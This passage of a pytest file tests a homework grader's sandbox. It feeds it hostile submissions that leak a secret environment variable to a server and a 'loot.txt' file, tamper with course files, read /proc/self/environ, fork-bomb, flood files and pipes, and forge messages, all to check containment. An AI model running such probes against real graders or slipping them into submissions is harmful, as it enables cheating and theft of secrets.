        tmp_path / "subs",
        "control",
        "a1_forward",
        with_answer("a1_forward", "forward_answer", code.replace("__SECRET_NAME__", SECRET_NAME)),
    )
    monkeypatch.setenv(SECRET_NAME, SECRET)
    teacher = teachers_process()
    try:
        hw.grade(tmp_path / "subs", tmp_path / "g.csv", tmp_path / "g.json", timeout=20, sandboxed=False, quiet=True)
    finally:
        server.close()
        teacher.kill()
        teacher.wait()
    assert SECRET in (home / "loot.txt").read_text()
    assert any(SECRET.encode() in r for r in server.received)


def test_a_changed_course_file_stops_grading(tmp_path, monkeypatch, capsys):
    """Hashes of the course's files are compared after every submission: a change is a loud error."""
    planted = tmp_path / "course_file.py"
    planted.write_text("x = 1\n")
    real = judging.course_files
    monkeypatch.setattr(judging, "course_files", lambda: {**real(), str(planted): planted.read_text()})
    code = f"open({str(planted)!r}, 'a').write('judge = None\\n')\n\n\ndef lstm_step_forward(x, h, c, W, b):\n    raise NotImplementedError"
    write(tmp_path / "subs", "writer", "a1_forward", with_answer("a1_forward", "forward_answer", code))
    with pytest.raises(judging.CourseChanged, match="course_file.py"):
        hw.grade(tmp_path / "subs", tmp_path / "g.csv", tmp_path / "g.json", timeout=20, sandboxed=False, quiet=True)
    assert not (tmp_path / "g.json").exists()
    planted.write_text("x = 1\n")
    args = ["grade", str(tmp_path / "subs"), "--csv", str(tmp_path / "g.csv"), "--json", str(tmp_path / "g.json")]
    assert hw.main([*args, "--no-sandbox", "--timeout", "20"]) == 3
    assert "STOPPED: course files changed" in capsys.readouterr().err
    assert not (tmp_path / "g.json").exists()


# --- the sandbox itself ---------------------------------------------------------------------------------
SEES = """import json, os
found = {p: open(p, 'rb').read().decode('utf-8', 'replace') for p in ('/proc/1/cmdline', '/proc/self/cmdline', '/proc/self/environ')}
raise ValueError(json.dumps({'uid': os.getuid(), 'root': sorted(os.listdir('/')), 'env': sorted(os.environ), 'cwd': os.getcwd(),
    'status': open('/proc/self/status').read(), 'repo': os.path.exists(%r), 'proc': found}))"""


def test_a_sandboxed_kernel_sees_only_what_it_needs():
    with Kernel(sandboxed=True, watch=True) as k:
        reply = k.run(SEES % str(ROOT), 20)
    seen = json.loads(reply["evalue"])
    assert seen["uid"] != 0 and seen["cwd"] == sandbox.SCRATCH
    assert not seen["repo"] and "home" not in seen["root"] and "work" not in seen["root"]
    assert SECRET_NAME not in seen["env"] and not [v for v in seen["env"] if v.startswith("LSTM_LAB")]
    status = dict(line.split(":\t", 1) for line in seen["status"].splitlines() if ":\t" in line)
    for caps in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert status[caps].strip() == "0" * 16, status
    assert status["NoNewPrivs"].strip() == "1" and status["Seccomp"].strip() == "2"
    for path, text in seen["proc"].items():  # no host path, no guard variable, in any command line or environment
        for host in (str(ROOT), sys.prefix, os.path.realpath(sys.prefix), str(pathlib.Path.home()), "LSTM_LAB_"):
            assert host not in text, (path, host, text)


PROBE_WRITES = """
res = []
for p in ["/", "/etc", "/dev", "/work", "/usr", %r, "/scratch", "/tmp", "/dev/shm"]:
    try:
        open(os.path.join(p, "probe"), "w").close()
        res.append(p)
    except OSError:
        pass
"""


def test_a_sandboxed_kernel_writes_only_to_its_scratch_folders():
    with Kernel(sandboxed=True, watch=True) as k:
        reply = k.run("import os\n" + PROBE_WRITES % str(ROOT) + "raise ValueError(repr(res))", 20)
    assert reply["evalue"] == repr(["/scratch", "/tmp", "/dev/shm"]), reply


MANY_FILES = "import os, time\nfor i in range(12000):\n    open(f'/scratch/f{i}', 'w').close()\ntime.sleep(30)"


def test_a_file_count_the_mount_did_not_set_is_watched(monkeypatch):
    """As root the grader sets /scratch's file count by remounting it; where that is not possible (an
    ordinary user, or a remount that failed) it watches the count and stops a kernel that passes it."""
    if os.geteuid() == 0:
        with Kernel(sandboxed=True, watch=True) as k:
            assert k.files_set
    monkeypatch.setattr(Kernel, "_limit_files", lambda self: False)
    with Kernel(sandboxed=True, watch=True) as k:
        assert not k.files_set
        with pytest.raises(KernelDied, match=f"more than {sandbox.TMPFS[sandbox.SCRATCH][1]} files"):
            k.run(MANY_FILES, 60)


def test_the_sandbox_of_an_ordinary_user_holds_too():
    """A teacher's laptop runs bwrap as an ordinary user (a user namespace, which then owns the sandbox's
    own root folder): the same flags hold the process limit and keep everything but the scratch folders
    read-only. Run here as uid 65534, with the system's Python (the grader's own may not be readable), from
    the root folder: the clone may lie in a folder that user cannot enter (a private home, ``mktemp -d``)."""
    if os.geteuid() != 0 or not shutil.which("setpriv") or not os.path.exists("/usr/bin/python3"):
        pytest.skip("needs root (to act as an ordinary user) and /usr/bin/python3")
    script = (
        "import os, resource, subprocess\n"
        "userns = subprocess.run(['unshare', '-U', 'true'], capture_output=True).returncode\n"
        "resource.setrlimit(resource.RLIMIT_NPROC, (20, 20))\nn = 0\n"
        "for _ in range(2000):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
        "    if pid == 0:\n        import time; time.sleep(30); os._exit(0)\n    n += 1\n"
        + PROBE_WRITES % str(ROOT)
        + "print(n, os.getuid(), userns, res)"
    )
    args, _ = sandbox.bwrap_args({"PATH": "/usr/bin"}, root=False, binds=[])
    cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--", sandbox.bwrap_path()]
    cmd += ["--args", str(args.pipe()), "--", "/usr/bin/python3", "-c", script]
    try:
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=60, pass_fds=args.fds, cwd="/")
    finally:
        args.close()
    assert r.returncode == 0, r.stderr
    n, uid, userns, res = r.stdout.split(" ", 3)
    assert int(n) < 20 and int(uid) == 65534, r.stdout
    assert int(userns) != 0, r.stdout  # --disable-userns: no namespace of its own inside
    assert res.strip() == repr(["/scratch", "/tmp", "/dev/shm"]), r.stdout


def zmtp_server(path, message):
    """A stand-in for a kernel's shell socket: the ZMTP handshake, then ``message`` (a list of parts)."""
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    srv.listen(1)

    def serve():
        conn, _ = srv.accept()
        with conn:
            conn.sendall(zmtp.GREETING + zmtp._ready(b"ROUTER"))
            try:
                for k, part in enumerate(message):
                    conn.sendall(zmtp._frame(part, zmtp.MORE if k < len(message) - 1 else 0))
            except OSError:
                pass  # the grader hung up
        srv.close()

    threading.Thread(target=serve, daemon=True).start()


@pytest.mark.parametrize("parts,size", [(512, 4 << 20), (512, 1 << 20), (100_000, 8)])
def test_a_reply_of_many_or_large_frames_is_refused_before_it_is_kept(tmp_path, parts, size):
    import tracemalloc

    big = b"x" * size
    zmtp_server(str(tmp_path / "s"), [big] * parts)
    shell = zmtp.Shell(str(tmp_path / "s"))
    tracemalloc.start()
    try:
        shell.connect(time.monotonic() + 10)
        with pytest.raises(zmtp.TooLarge):
            while shell.recv(time.monotonic() + 10) is None:
                pass
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        shell.close()
    assert peak < 8 << 20, peak  # at most one message's limit (2 MiB) and one read, never the whole reply


def test_a_flooded_report_pipe_never_holds_the_grader():
    r, w = os.pipe()
    key = b"k" * 32
    records = channel.Records(r, key, budget=4 << 20)
    os.write(w, wire.record(key, 0, b"ready"))
    stop = threading.Event()

    def flood():
        os.set_blocking(w, False)
        while not stop.is_set():
            try:
                os.write(w, b"\xff" * 65536)
            except (BlockingIOError, BrokenPipeError):
                time.sleep(0.001)

    threading.Thread(target=flood, daemon=True).start()
    start = time.monotonic()
    assert not records.wait(lambda: 7 in records.done, time.monotonic() + 1.5)
    assert time.monotonic() - start < 3
    assert records.ready and records.broken and "flooded or garbled" in records.broken
    stop.set()
    records.close()
    os.close(w)


def test_records_not_signed_by_the_guard_or_missing_are_noticed():
    r, w = os.pipe()
    key = b"k" * 32
    records = channel.Records(r, key)
    os.write(w, wire.record(key, 0, b"ready") + wire.record(b"x" * 32, 1, b"done 1 {}\n"))
    os.write(w, wire.record(key, 2, b'done 1 {"question": "forward"}\n'))  # record 1 went missing
    assert records.wait(lambda: records.broken is not None, time.monotonic() + 5)
    assert records.forged == 1 and "went missing" in records.broken and 1 not in records.done
    records.close()
    os.close(w)


def test_results_are_checked_before_anything_is_converted():
    good = wire.encode_results([{"h": np.ones((2, 3)), "c": [[1.0, 2.0]]}, {"h": "not numbers"}])
    out = wire.decode_results(good)
    assert out[0]["h"].shape == (2, 3) and out[0]["c"].tolist() == [[1.0, 2.0]] and np.isnan(out[1]["h"])
    bad = [
        b'[[0, "h", [1099511627776]]]\n',  # a terabyte, declared
        b'[[0, "h", [2]]]\n' + b"\0" * 8,  # fewer bytes than declared
        b'[[0, "h", [2, "x"]]]\n' + b"\0" * 16,
        b'[[1, "h", [1]]]\n' + b"\0" * 8,  # no case 0
        b'{"h": 1}\n',
        b"[" * 100000,  # no header line within the limit
    ]
    for blob in bad:
        with pytest.raises(wire.Garbage):
            wire.decode_results(blob)
    with pytest.raises(ValueError):
        wire.encode_results([{"h": np.ones(wire.MAX_ELEMENTS)}] * 2)
    assert np.isnan(wire.as_float(np.full(wire.MAX_ELEMENTS + 1, b"1", dtype="S1")))


def test_answers_for_more_cases_than_there_are_say_so():
    blob = wire.encode_results([{"h": np.zeros((1, 2)), "c": np.zeros((1, 2))}] * 4)
    ok, msg = judging.judge("forward", 0, blob)
    assert not ok and "answers for 4 cases; it has 3" in msg, msg
